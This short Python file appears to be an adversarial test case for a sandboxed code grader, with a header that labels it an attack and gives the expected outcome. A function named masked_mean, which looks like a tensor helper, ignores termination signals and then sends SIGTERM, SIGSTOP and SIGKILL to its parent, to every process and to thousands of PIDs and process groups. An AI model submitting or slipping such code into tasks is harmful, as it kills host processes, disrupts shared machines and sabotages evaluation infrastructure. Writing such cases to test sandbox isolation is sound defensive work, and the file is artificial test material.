"""attack: kills the zygote and its siblings
strategy: signals to the parent, to all processes, to every group and to every number
family: resources
question: q1_pool
expect: failed killed error
"""

import os
import signal


def masked_mean(hidden, mask):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in (os.getppid(), 0, -1, *range(2, 3000)):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for group in range(3000):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    return None
